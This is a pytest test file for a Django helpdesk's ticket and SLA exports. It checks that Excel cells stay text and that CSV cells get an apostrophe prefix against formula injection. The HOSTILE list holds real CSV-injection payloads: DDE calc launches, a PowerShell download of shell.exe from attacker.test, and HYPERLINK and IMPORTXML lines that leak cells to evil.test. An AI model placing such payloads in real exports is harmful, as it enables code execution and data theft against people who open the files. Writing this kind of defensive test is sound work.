"""Exports never run formulas: subjects, names and sites that a spreadsheet program would
read as a formula (`=HYPERLINK(...)` leaking the next cell, DDE `=cmd|' /C calc'!A0`,
`@SUM`, `+`, `-`, a tab or CR before `=`, a full-width ＝, spaces or a quote first) go
through every export there is: the portal's lists (*Mis Tickets*, *Tickets de la Compañía*,
*Buscar*) as Excel and CSV, and the SLA report's CSV. The desk has no exports of its own.

In Excel files (read back with openpyxl) no cell is a formula and the text is exactly what
was stored; in CSV files every such text starts with an apostrophe followed by the text.
Numbers and dates keep their types."""

from __future__ import annotations

import csv
import datetime
import io
import re

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse
from openpyxl.utils.escape import unescape

from atiende import exports
from atiende.accounts.models import Contact
from atiende.tickets.models import Ticket
from tests.conftest import World
from tests.factories import LocationFactory, OrganizationFactory, make_contact, open_ticket
from tests.sla.conftest import bogota, clock, colombia, policy  # noqa: F401 - fixtures

HOSTILE = [
    '=HYPERLINK("http://evil.test/?leak="&B3,"Ver")',
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget attacker.test/shell.exe)'!A0",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    'DDE("cmd";"/C calc";"!A0")A0',  # harmless on its own: written as it is
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.test/?v=",A2),"//a")',
    "=1+1",
    "-2+3",
    "+cmd",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    " =1+1",
    "  @A1",
    '"=1+1',
    "'=1+1",
]
# What the domain keeps as a subject (single spaces, no tabs or line breaks) still starts
# like a formula; names of people and sites are kept as they were written.
FORMULA = re.compile(r"^[\s\"'\u3000]*[=+\-@＝＋－＠]")


def dangerous(text: str) -> bool:
    """How a spreadsheet program would see the text: a formula, also after spaces, tabs,
    line breaks or quotes."""
    return bool(FORMULA.match(text))


def runs_in_csv(cell: str) -> bool:
    """A CSV cell a spreadsheet would run: a leading apostrophe makes any cell text."""
    return not cell.startswith("'") and dangerous(cell)


def test_every_hostile_value_of_the_corpus_is_one_a_spreadsheet_would_run():
    # The corpus is worth its name: all but the plain DDE text would start a formula.
    assert [value for value in HOSTILE if not dangerous(value)] == ['DDE("cmd";"/C calc";"!A0")A0']


@pytest.fixture
def hostile_tickets(world: World) -> list[Ticket]:
    """One ticket per hostile value, opened by a contact of Acme named with it, at a site
    named with it, with it as the subject."""
    tickets = []
    for index, value in enumerate(HOSTILE):
        requester: Contact = make_contact(f"hostil{index}@acme.test", world.acme, full_name=value)
        site = LocationFactory.create(organization=world.acme, name=value)
        tickets.append(open_ticket(requester, world.soporte, subject=f"{value}", location=site))
    # Ana sees the company's tickets: she opens one too, so *Mis Tickets* has them all.
    tickets.append(open_ticket(world.ana, world.soporte, subject=HOSTILE[0], location=site))
    return tickets


def _xlsx_rows(response) -> list[tuple[openpyxl.cell.Cell, ...]]:
    assert response.status_code == 200
    assert response["Content-Type"] == exports.XLSX_TYPE
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return list(sheet.iter_rows())


def _csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


PORTAL_LISTS = ["portal:tickets", "portal:company-tickets", "portal:search"]
SUBJECT, LOCATION, REQUESTER, CREATED = 1, 8, 9, 10


@pytest.mark.parametrize("name", PORTAL_LISTS)
def test_the_portal_lists_excel_has_no_formula_and_keeps_every_text(
    client: Client, world: World, hostile_tickets: list[Ticket], name: str
):
    client.force_login(world.ana.user)
    rows = _xlsx_rows(client.get(reverse(name), {"export": "xlsx", "state": "all"}))

    _header, *data = rows
    assert [cell.data_type for row in rows for cell in row if cell.data_type == "f"] == []
    shown = {
        ticket.number: ticket
        for ticket in hostile_tickets
        if name != "portal:tickets" or ticket.requester == world.ana
    }
    assert {row[0].value for row in data} == set(shown)
    for row in data:
        ticket = shown[row[0].value]
        assert row[0].data_type == "n"
        # openpyxl leaves Excel's escapes of control characters (_x000D_) as they are.
        assert row[SUBJECT].value == ticket.subject
        assert ticket.location is not None
        assert unescape(row[LOCATION].value) == ticket.location.name
        assert isinstance(row[CREATED].value, datetime.datetime)
        if name != "portal:tickets":
            assert unescape(row[REQUESTER].value) == ticket.requester.user.get_full_name()
        # Each of these texts would have been a formula: all are text cells.
        for column in (SUBJECT, LOCATION, REQUESTER):
            assert row[column].data_type == "s"


@pytest.mark.parametrize("name", PORTAL_LISTS)
def test_the_portal_lists_csv_starts_every_formula_like_text_with_an_apostrophe(
    client: Client, world: World, hostile_tickets: list[Ticket], name: str
):
    client.force_login(world.ana.user)
    _header, *data = _csv_rows(client.get(reverse(name), {"export": "csv", "state": "all"}))

    by_number = {ticket.number: ticket for ticket in hostile_tickets}
    assert len(data) == (1 if name == "portal:tickets" else len(hostile_tickets))
    for row in data:
        ticket = by_number[int(row[0])]
        assert ticket.location is not None
        expected = {
            SUBJECT: ticket.subject,
            LOCATION: ticket.location.name,
            REQUESTER: ticket.requester.user.get_full_name(),
        }
        for column, text in expected.items():
            assert row[column] == (f"'{text}" if dangerous(text) else text)
        assert not any(runs_in_csv(cell) for cell in row), row
        assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d", row[CREATED])


def test_the_sla_report_csv_writes_company_and_queue_names_as_text(
    client: Client,
    world: World,
    policy,  # noqa: F811
    clock,  # noqa: F811
):
    world.soporte.name = "@SUM(1+9)*cmd|' /C calc'!A0"
    world.soporte.save()
    for index, value in enumerate(HOSTILE):
        company = OrganizationFactory.create(name=value, email_domains=f"hostil{index}.test")
        open_ticket(make_contact(f"c@hostil{index}.test", company), world.soporte)
    client.force_login(world.supervisor.user)

    _header, *data = _csv_rows(client.get(reverse("reports:sla-report-csv"), {"month": "2025-11"}))

    companies = {row[0] for row in data[:-1]}
    assert companies == {f"'{value}" if dangerous(value) else value for value in HOSTILE}
    assert {row[1] for row in data[:-1]} == {"'@SUM(1+9)*cmd|' /C calc'!A0"}
    assert not any(runs_in_csv(cell) for row in data for cell in row)
    assert all(row[2] == "1" for row in data[:-1])  # the ticket count stays a number


# --- the writer itself, with values the domain would tidy first (tabs, line breaks) ----


def test_the_excel_writer_writes_every_text_as_text_and_numbers_and_dates_as_such():
    moment = datetime.datetime(2025, 11, 19, 9, 30, tzinfo=datetime.UTC)
    rows: list[list[exports.Cell]] = [
        [value, index, -index, 2.5, moment, moment.date()] for index, value in enumerate(HOSTILE)
    ]
    sheet = openpyxl.load_workbook(io.BytesIO(exports.xlsx_bytes("Hoja", ["Texto"], rows))).active

    for row, value in zip(list(sheet.iter_rows())[1:], HOSTILE, strict=True):
        text, number, negative, fraction, when, day = row
        assert (text.data_type, unescape(text.value)) == ("s", value)
        assert (number.data_type, negative.data_type, fraction.value) == ("n", "n", 2.5)
        assert negative.value == -number.value
        assert when.value == moment.replace(tzinfo=None)
        assert day.value == moment.replace(hour=0, minute=0, tzinfo=None)
        assert day.is_date


def test_the_csv_writer_neutralises_every_formula_and_keeps_numbers():
    rows: list[list[exports.Cell]] = [[value, -3, 1.5, None] for value in HOSTILE]
    _header, *data = list(csv.reader(io.StringIO(exports.csv_text(["Texto"], rows), newline="")))

    for row, value in zip(data, HOSTILE, strict=True):
        assert row == [f"'{value}" if dangerous(value) else value, "-3", "1.5", ""]
